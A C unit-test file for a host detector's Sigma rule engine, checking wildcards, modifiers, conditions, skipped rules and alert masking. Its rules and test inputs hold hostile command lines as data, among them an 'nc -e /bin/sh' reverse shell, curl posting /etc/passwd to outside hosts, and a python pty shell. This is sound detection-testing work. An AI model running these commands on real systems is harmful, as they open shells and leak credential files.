/* test_sigma.c - the Sigma language on vigil's records: values, wildcards
 * and escapes, case, every modifier, keyword lists, conditions, logsource
 * and field mapping (unevaluable rules listed with a reason), and the alert
 * a match raises (rule name, level, ATT&CK, stage, licence fields, masking). */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "detectors/shell_line.h"
#include "detectors/sigma.h"
#include "tests/unit/detectors/harness.h"

extern const struct detector_plugin detector_sigma;

static char dir[64];

static void write_rule(const char *name, const char *body)
{
    char path[128];
    snprintf(path, sizeof(path), "%s/%s.yml", dir, name);
    FILE *f = fopen(path, "w");
    cr_assert(f);
    fputs(body, f);
    fclose(f);
}

static void setup(void)
{
    snprintf(dir, sizeof(dir), "/tmp/vigil-sigma.XXXXXX");
    cr_assert(mkdtemp(dir));
}

static void teardown(void)
{
    char cmd[128];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
    cr_assert(system(cmd) == 0);
}

TestSuite(sigma, .init = setup, .fini = teardown);

/* A process_creation rule with the given detection (YAML, indented 4). */
static void proc_rule(const char *name, const char *detection)
{
    char body[4096];
    snprintf(body, sizeof(body),
             "title: %s\nid: %s\nstatus: test\nlevel: high\nauthor: Tester\n"
             "logsource:\n    product: linux\n    category: process_creation\n"
             "detection:\n%s", name, name, detection);
    write_rule(name, body);
}

static struct sigma_set *load_dir(void)
{
    const char *paths[] = { dir };
    struct sigma_opts o = { .min_status = "experimental" };
    struct sigma_set *s = sigma_set_load(paths, 1, &o);
    cr_assert(s);
    return s;
}

struct hits {
    char ids[16][64];
    unsigned n;
};

static void on_hit(void *arg, const struct sigma_rule *r)
{
    struct hits *h = arg;
    if (h->n < 16)
        snprintf(h->ids[h->n++], 64, "%s", r->id);
}

static const char *cwd;   /* the history's working directory, NULL = unknown */

/* Does rule id fire on a history line (any of its commands, either source)? */
static bool fires(struct sigma_set *s, const char *id, const char *line)
{
    static struct shl_line l;
    static char scratch[SHL_TEXT_BYTES + 1024];
    struct sigma_event ev;
    struct hits h = { .n = 0 };
    shl_parse(&l, span_cstr(line));
    for (unsigned g = 0; g < l.nsegs; g++) {
        for (int src = SS_PROCESS; src <= SS_EXECVE; src++) {
            sigma_event_command(&ev, (enum sigma_source)src, &l.word[l.seg[g].w0], l.seg[g].nw,
                                SPAN_LIT("alice"), cwd ? span_cstr(cwd) : SPAN_NULL, scratch, sizeof(scratch));
            sigma_eval(s, &ev, on_hit, &h);
        }
    }
    for (unsigned i = 0; i < h.n; i++)
        if (!strcmp(h.ids[i], id))
            return true;
    return false;
}

static bool fires_line(struct sigma_set *s, const char *id, const char *raw)
{
    struct sigma_event ev;
    struct hits h = { .n = 0 };
    sigma_event_line(&ev, span_cstr(raw));
    sigma_eval(s, &ev, on_hit, &h);
    for (unsigned i = 0; i < h.n; i++)
        if (!strcmp(h.ids[i], id))
            return true;
    return false;
}

static const struct sigma_skipped *skipped(const struct sigma_set *s, const char *id)
{
    for (size_t i = 0; i < s->nskipped; i++)
        if (!strcmp(s->skipped[i].id, id))
            return &s->skipped[i];
    return NULL;
}

Test(sigma, wildcards_escapes_and_case)
{
    proc_rule("w1", "    sel:\n        CommandLine: 'cu?l *evil*'\n    condition: sel\n");
    proc_rule("w2", "    sel:\n        CommandLine|contains: 'a\\*b'\n    condition: sel\n");
    proc_rule("w3", "    sel:\n        CommandLine|contains|cased: 'SeCreT'\n    condition: sel\n");
    proc_rule("w4", "    sel:\n        CommandLine: 'ls'\n    condition: sel\n");
    struct sigma_set *s = load_dir();
    cr_assert(fires(s, "w1", "curl http://evil.example/x"));
    cr_assert(fires(s, "w1", "CURL http://EVIL.example/x"), "case-insensitive by default");
    cr_assert(fires(s, "w1", "cuXl -s evil"));
    cr_assert(!fires(s, "w1", "wget http://evil.example/x"));
    cr_assert(!fires(s, "w1", "cuXXl evil"), "? is one byte");
    cr_assert(fires(s, "w2", "echo 'a*b'"));
    cr_assert(!fires(s, "w2", "echo axxb"), "an escaped * is a literal star");
    cr_assert(fires(s, "w3", "echo SeCreT"));
    cr_assert(!fires(s, "w3", "echo secret"), "cased");
    cr_assert(fires(s, "w4", "ls"));
    cr_assert(!fires(s, "w4", "ls -l"), "a plain value is the whole field");
    sigma_set_free(s);
}

Test(sigma, string_modifiers_and_image)
{
    proc_rule("m1", "    sel:\n        Image|endswith: '/curl'\n        CommandLine|contains|all:\n"
                    "            - ' -d '\n            - '@/etc/'\n    condition: sel\n");
    proc_rule("m2", "    sel:\n        CommandLine|startswith: 'python'\n"
                    "        CommandLine|endswith: 'pty.spawn(\"/bin/sh\")'\n    condition: sel\n");
    proc_rule("m3", "    sel:\n        Image: '/usr/sbin/useradd'\n    condition: sel\n");
    proc_rule("m4", "    sel:\n        Image|startswith: '/tmp/'\n    condition: sel\n");
    struct sigma_set *s = load_dir();
    cr_assert(fires(s, "m1", "curl -d @/etc/passwd http://x"), "a bare name resolves to the bin folders");
    cr_assert(fires(s, "m1", "/usr/local/bin/curl -d @/etc/shadow x"));
    cr_assert(!fires(s, "m1", "curl -d @/home/x http://x"), "all: every value");
    cr_assert(!fires(s, "m1", "mycurl -d @/etc/passwd x"));
    cr_assert(fires(s, "m2", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"));
    cr_assert(fires(s, "m3", "sudo useradd -m eve"), "the command under sudo");
    cr_assert(!fires(s, "m3", "/opt/useradd eve"), "a typed directory is kept");
    cr_assert(fires(s, "m4", "/tmp/x"));
    cr_assert(!fires(s, "m4", "x"), "a bare name is never in /tmp");
    cr_assert(!fires(s, "m4", "./x"), "no working directory known");
    cwd = "/tmp/";
    cr_assert(fires(s, "m4", "./x"), "a relative path under the working directory");
    cr_assert(fires(s, "m4", "sub/x"));
    cwd = NULL;
    sigma_set_free(s);
}

Test(sigma, re_cidr_base64_windash_numbers_exists_null)
{
    proc_rule("r1", "    sel:\n        CommandLine|re: '(?i)nc\\s+-E\\s'\n    condition: sel\n");
    proc_rule("r2", "    sel:\n        CommandLine|re|i: 'BASE64 +-D'\n    condition: sel\n");
    proc_rule("r3", "    sel:\n        CommandLine|re: '(a+)+$'\n    condition: sel\n");
    proc_rule("c1", "    sel:\n        CommandLine|cidr: '10.0.0.0/8'\n    condition: sel\n");
    proc_rule("b1", "    sel:\n        CommandLine|base64offset|contains: 'http://'\n    condition: sel\n");
    proc_rule("b2", "    sel:\n        CommandLine|base64|contains: 'whoami'\n    condition: sel\n");
    proc_rule("d1", "    sel:\n        CommandLine|windash|contains: ' -enc '\n    condition: sel\n");
    proc_rule("d2", "    sel:\n        CommandLine|windash|contains|all:\n            - ' -nop '\n"
                    "            - ' -enc '\n    condition: sel\n");
    write_rule("n1", "title: n1\nid: n1\nstatus: test\nlogsource:\n    product: linux\n    service: auditd\n"
                     "detection:\n    sel:\n        type: EXECVE\n        a0: kill\n        a1|gte: 9\n"
                     "        a2|exists: false\n    condition: sel\n");
    proc_rule("e1", "    sel:\n        CurrentDirectory: null\n        CommandLine: id\n    condition: sel\n");
    struct sigma_set *s = load_dir();
    cr_assert(fires(s, "r1", "nc -e /bin/sh 1.2.3.4 80"));
    cr_assert(!fires(s, "r1", "nc -l 80"));
    cr_assert(fires(s, "r2", "base64 -d x"));
    /* a catastrophic pattern on hostile input stops at the match limit */
    char hostile[4200] = "echo ";
    memset(hostile + 5, 'a', 4000);
    strcpy(hostile + 4005, "!");
    cr_assert(!fires(s, "r3", hostile));
    cr_assert(fires(s, "c1", "10.20.30.40"));
    cr_assert(!fires(s, "c1", "11.20.30.40"));
    /* "http://x" in base64 at each offset */
    cr_assert(fires(s, "b1", "echo aHR0cDovL3gK | base64 -d"));
    cr_assert(fires(s, "b1", "echo IGh0dHA6Ly94"));
    cr_assert(fires(s, "b1", "echo ICBodHRwOi8veA=="));
    cr_assert(!fires(s, "b1", "echo http://x"));
    cr_assert(fires(s, "b2", "echo d2hvYW1p | base64 -d"));
    cr_assert(fires(s, "d1", "pwsh -enc AAAA"));
    cr_assert(fires(s, "d1", "pwsh /enc AAAA"));
    cr_assert(fires(s, "d1", "pwsh \xe2\x80\x93" "enc AAAA"));
    cr_assert(!fires(s, "d1", "pwsh +enc AAAA"));
    cr_assert(fires(s, "d2", "pwsh /nop -enc AAAA"), "all: each value by any of its variants");
    cr_assert(!fires(s, "d2", "pwsh /nop AAAA"));
    cr_assert(fires(s, "n1", "kill 9"));
    cr_assert(fires(s, "n1", "kill 15"));
    cr_assert(!fires(s, "n1", "kill 1"));
    cr_assert(!fires(s, "n1", "kill 9 123"), "exists: false");
    cr_assert(fires(s, "e1", "id"), "no working directory: null holds");
    sigma_set_free(s);
}

Test(sigma, conditions)
{
    proc_rule("k1", "    selection_a:\n        CommandLine|contains: aaa\n"
                    "    selection_b:\n        CommandLine|contains: bbb\n"
                    "    filter_x:\n        CommandLine|contains: xxx\n"
                    "    condition: 1 of selection_* and not 1 of filter_*\n");
    proc_rule("k2", "    selection_a:\n        CommandLine|contains: aaa\n"
                    "    selection_b:\n        CommandLine|contains: bbb\n"
                    "    condition: all of selection_*\n");
    proc_rule("k3", "    s1:\n        CommandLine|contains: aaa\n    s2:\n        CommandLine|contains: bbb\n"
                    "    s3:\n        CommandLine|contains: ccc\n"
                    "    condition: s1 and (s2 or s3) and not s3\n");
    proc_rule("k4", "    s1:\n        CommandLine|contains: aaa\n    s2:\n        CommandLine|contains: bbb\n"
                    "    condition: all of them\n");
    proc_rule("k5", "    s1:\n        CommandLine|contains: aaa\n    s2:\n        CommandLine|contains: bbb\n"
                    "    condition: 1 of them\n");
    proc_rule("k6", "    s1:\n        - CommandLine|contains: aaa\n          Image|endswith: /echo\n"
                    "        - CommandLine|contains: zzz\n    condition: not s1\n");
    struct sigma_set *s = load_dir();
    cr_assert(fires(s, "k1", "echo aaa"));
    cr_assert(fires(s, "k1", "echo bbb"));
    cr_assert(!fires(s, "k1", "echo aaa xxx"));
    cr_assert(!fires(s, "k1", "echo ccc"));
    cr_assert(fires(s, "k2", "echo aaa bbb"));
    cr_assert(!fires(s, "k2", "echo aaa"));
    cr_assert(fires(s, "k3", "echo aaa bbb"));
    cr_assert(!fires(s, "k3", "echo aaa bbb ccc"));
    cr_assert(!fires(s, "k3", "echo aaa"));
    cr_assert(fires(s, "k4", "echo aaa bbb"));
    cr_assert(!fires(s, "k4", "echo bbb"));
    cr_assert(fires(s, "k5", "echo bbb"));
    cr_assert(!fires(s, "k5", "echo ccc"));
    /* a rule with no literal it needs is evaluated on every command */
    cr_assert(fires(s, "k6", "ls"));
    cr_assert(!fires(s, "k6", "echo aaa"), "list of maps: any map");
    cr_assert(!fires(s, "k6", "cat zzz"));
    cr_assert(fires(s, "k6", "cat aaa"), "a map needs all its items");
    sigma_set_free(s);
}

Test(sigma, keywords_on_raw_lines)
{
    write_rule("kw", "title: kw\nid: kw\nstatus: stable\nlogsource:\n    product: linux\n"
                     "detection:\n    keywords:\n        - 'Accepted publickey for root'\n"
                     "        - 'segfault at * ip'\n    condition: keywords\n");
    write_rule("kws", "title: kws\nid: kws\nstatus: stable\nlogsource:\n    product: linux\n    service: sshd\n"
                      "detection:\n    keywords:\n        '|all':\n            - 'error'\n            - 'ssh'\n"
                      "    condition: keywords\n");
    struct sigma_set *s = load_dir();
    cr_assert(fires_line(s, "kw", "Jan 1 sshd[1]: accepted publickey for ROOT from 1.2.3.4"));
    cr_assert(fires_line(s, "kw", "kernel: a.out[9]: segfault at 0 ip 0000 sp"));
    cr_assert(!fires_line(s, "kw", "kernel: segfault"));
    cr_assert(fires_line(s, "kws", "sshd: error: kex"));
    cr_assert(!fires_line(s, "kws", "sshd: fatal: kex"));
    sigma_set_free(s);
}

Test(sigma, unevaluable_rules_have_a_reason)
{
    proc_rule("u1", "    sel:\n        ParentImage|endswith: /java\n    condition: sel\n");
    proc_rule("u2", "    sel:\n        CommandLine|utf16: x\n    condition: sel\n");
    proc_rule("u3", "    sel:\n        CommandLine|re: '(unclosed'\n    condition: sel\n");
    proc_rule("u4", "    sel:\n        CommandLine: x\n    condition: sel and nosuch\n");
    proc_rule("u5", "    sel:\n        CommandLine: x\n    condition: sel | count() > 5\n");
    write_rule("u6", "title: u6\nid: u6\nlogsource:\n    product: linux\n    category: file_event\n"
                     "detection:\n    sel:\n        TargetFilename: x\n    condition: sel\n");
    write_rule("u7", "title: u7\nid: u7\nlogsource:\n    product: linux\n    service: auditd\n"
                     "detection:\n    sel:\n        type: SYSCALL\n        a0: x\n    condition: sel\n");
    write_rule("u8", "title: [unclosed\n");
    write_rule("u9", "title: u9\nid: u9\ncorrelation:\n    type: event_count\n");
    proc_rule("ok", "    sel:\n        CommandLine: x\n    condition: sel\n");
    struct sigma_set *s = load_dir();
    cr_assert_eq(s->nrules, 1);
    cr_assert_eq(s->files, 10);
    const struct { const char *id; enum sigma_skip why; const char *word; } want[] = {
        { "u1", SK_FIELD, "ParentImage" }, { "u2", SK_MODIFIER, "utf16" }, { "u3", SK_VALUE, "regex" },
        { "u4", SK_CONDITION, "nosuch" }, { "u5", SK_CONDITION, "aggregation" },
        { "u6", SK_LOGSOURCE, "file_event" }, { "u7", SK_FIELD, "EXECVE" },
        { "u9", SK_CORRELATION, "correlation" },
    };
    for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
        const struct sigma_skipped *k = skipped(s, want[i].id);
        cr_assert(k, "%s not listed", want[i].id);
        cr_assert_eq(k->why, want[i].why, "%s: %s", want[i].id, k->reason);
        cr_assert(strstr(k->reason, want[i].word), "%s: %s", want[i].id, k->reason);
    }
    cr_assert_eq(s->skips[SK_YAML], 1, "the broken file is listed");
    sigma_set_free(s);
}

Test(sigma, status_exclude_override)
{
    write_rule("st", "title: st\nid: st\nstatus: experimental\nlevel: high\nlogsource:\n    product: linux\n"
                     "    category: process_creation\ndetection:\n    sel:\n        CommandLine: x\n    condition: sel\n");
    proc_rule("ex", "    sel:\n        CommandLine: x\n    condition: sel\n");
    proc_rule("ov", "    sel:\n        CommandLine: x\n    condition: sel\n");
    const char *paths[] = { dir };
    const char *excl[] = { "ex" };
    const char *oid[] = { "ov" }, *olv[] = { "low" };
    struct sigma_opts o = { .min_status = "test", .exclude = excl, .nexclude = 1,
                            .override_id = oid, .override_level = olv, .noverrides = 1 };
    struct sigma_set *s = sigma_set_load(paths, 1, &o);
    cr_assert(s);
    cr_assert(!fires(s, "st", "x"), "below min_status");
    cr_assert(!fires(s, "ex", "x"), "excluded");
    cr_assert(fires(s, "ov", "x"));
    cr_assert_eq(s->skips[SK_STATUS], 1);
    cr_assert_eq(s->skips[SK_EXCLUDED], 1);
    for (size_t i = 0; i < s->nrules; i++)
        if (!strcmp(s->rule[i].id, "ov"))
            cr_assert_eq(s->rule[i].severity, SEV_LOW);
    sigma_set_free(s);
}

Test(sigma, alert_carries_rule_metadata_and_masks_secrets)
{
    write_rule("al", "title: Suspicious Curl Upload\nid: 11111111-2222-3333-4444-555555555555\n"
                     "status: test\nlevel: informational\nauthor: Jane Doe\n"
                     "references:\n    - https://example.org/ref\n"
                     "tags:\n    - attack.exfiltration\n    - attack.t1048.003\n"
                     "logsource:\n    product: linux\n    category: process_creation\n"
                     "detection:\n    sel:\n        Image|endswith: /curl\n        CommandLine|contains: ' -T '\n"
                     "    condition: sel\n");
    struct th t;
    th_init(&t, &detector_sigma);
    /* the rules option, as the config would give it */
    struct conf_strlist *rules =
        (struct conf_strlist *)((char *)t.det.ctx + conf_option_find(detector_sigma.options, "rules")->offset);
    cr_assert(conf_strlist_add(rules, dir) == 0);
    detector_sigma.destroy(&t.det);
    cr_assert(detector_sigma.init(&t.det) == 0);
    th_shell(&t, TH_T0, "bob", "curl -T /etc/passwd -u admin:hunter2 https://x.example/up && ls");
    const struct th_alert *a = th_find(&t, "sigma.11111111-2222-3333-4444-555555555555");
    cr_assert(a, "%u alerts", t.nalerts);
    cr_assert_eq(a->severity, SEV_INFO);
    cr_assert_eq(a->stage, STAGE_EXFILTRATION);
    cr_assert_str_eq(a->user, "bob");
    cr_assert(strstr(a->message, "Suspicious Curl Upload"), "%s", a->message);
    cr_assert(strstr(a->message, "Jane Doe"), "%s", a->message);
    cr_assert(strstr(a->message, "https://example.org/ref"), "%s", a->message);
    cr_assert(strstr(a->message, "11111111-2222-3333-4444-555555555555"), "%s", a->message);
    cr_assert(!strstr(a->message, "hunter2"), "%s", a->message);
    cr_assert(!strstr(a->evidence, "hunter2"), "%s", a->evidence);
    cr_assert(!strstr(a->message, "&& ls"), "the message is the matched command: %s", a->message);
    cr_assert_eq(th_count(&t, "sigma.11111111-2222-3333-4444-555555555555"), 1);
    conf_strlist_free(rules);
    th_fini(&t);
}
